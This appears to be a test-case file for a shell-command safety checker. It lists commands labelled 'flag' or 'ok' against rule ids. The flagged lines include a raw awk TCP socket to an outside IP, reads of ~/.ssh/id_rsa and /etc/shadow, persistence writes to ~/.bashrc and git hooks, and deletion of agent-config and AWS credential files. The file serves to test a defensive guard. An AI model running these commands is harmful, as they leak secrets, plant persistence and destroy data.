# Cases for checks/files.ts: files programs read or write through their own options. The paths
# they record are judged by the path checks of index.ts (paths.*), so the cases show those ids.

# flag: files.sed-exec
sed 's/x/id/e' notes.txt
# ok: an ordinary substitution
sed -i 's/foo/bar/g' src/a.ts
# flag: files.awk-socket
awk 'BEGIN { s = "/inet/tcp/0/203.0.113.5/4444"; print "x" |& s }'
# ok: awk printing a column
awk '{print $1}' data.txt
# flag: paths.write-persistence
find . -fprint ~/.bashrc
# flag: paths.read-credential
xargs -a ~/.ssh/id_rsa echo
# flag: paths.write-outside
strace -o /srv/trace.log ls
# flag: paths.read-outside
wc --files0-from=/srv/list
# flag: paths.read-credential
date -f /etc/shadow
# flag: paths.write-persistence
sed -n '1w .git/hooks/pre-commit' notes.txt
# flag: paths.write-persistence
sed -n '/^export/,$w ~/.bashrc' env.sh
# ok: sed printing an addressed line, and a substitution whose text holds a w
sed -n '1p;s/w x/y/' notes.txt
# flag: paths.write-agent-control
find ~/.qwen -name '*.json' -delete
# flag: paths.write-credential
find ~/.aws -type f -exec shred -u {} +
# ok: find deleting build leftovers in the workspace and a folder of its own
find . -name '*.orig' -delete && find ~/Downloads/old -exec rm {} +
# flag: paths.write-persistence
awk 'BEGIN { print "alias ls=x" >> ENVIRON["HOME"] "/.bashrc" }'
# ok: awk writing a workspace file
awk '{ print $1 > "names.txt" }' data.csv
